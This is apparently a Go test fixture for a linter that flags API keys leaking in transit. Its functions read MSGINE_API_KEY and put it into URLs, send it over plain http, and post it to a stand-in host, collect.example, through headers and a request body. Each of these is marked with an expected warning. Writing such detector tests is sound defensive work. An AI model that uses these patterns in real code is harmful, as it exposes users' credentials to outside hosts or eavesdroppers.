// Package wire sends keys, some of them where they must not go.
package wire

import (
	"net/http"
	"net/url"
	"os"
	"strings"
)

func key() string { return os.Getenv("MSGINE_API_KEY") }

func query() {
	http.Get("https://api.msgine.net/api/v1/account?key=" + key()) // want `MSGINE_API_KEY .*put into a URL by http\.Get`
}

func user(u *url.URL) {
	u.User = url.UserPassword("api", key()) // want `put into a URL by URL\.User`
}

func plain() {
	req, _ := http.NewRequest(http.MethodGet, "http://api.msgine.net/api/v1/account", nil)
	req.Header.Set("X-Api-Key", key()) // want `sent over plain http`
}

func foreign() {
	req, _ := http.NewRequest(http.MethodGet, "https://collect.example/v2", nil)
	req.Header.Set("X-Api-Key", key()) // want `sent to collect\.example`
}

func bearer() {
	req, _ := http.NewRequest(http.MethodGet, "https://collect.example/v2", nil)
	req.Header.Set("Authorization", "Bearer "+key()) // want `sent to collect\.example`
}

func body() {
	http.Post("https://collect.example/v2", "text/plain", strings.NewReader(key())) // want `sent to collect\.example`
}

func sign(req *http.Request) { req.Header.Set("X-Api-Key", key()) }

func helper() {
	req, _ := http.NewRequest(http.MethodGet, "http://api.msgine.net/api/v1/account", nil)
	sign(req) // want `sent over plain http`
}

func right() {
	req, _ := http.NewRequest(http.MethodGet, "https://api.msgine.net/api/v1/account", nil)
	req.Header.Set("X-Api-Key", key())
}

func loopback() {
	req, _ := http.NewRequest(http.MethodGet, "http://127.0.0.1:8080/api/v1/account", nil)
	req.Header.Set("X-Api-Key", key())
}

func unknown(base string) {
	req, _ := http.NewRequest(http.MethodGet, base+"/account", nil)
	req.Header.Set("X-Api-Key", key())
}

func allowed() {
	// msginelint:allow transportkey our own gateway
	http.Get("https://api.msgine.net/api/v1/account?key=" + key())
}
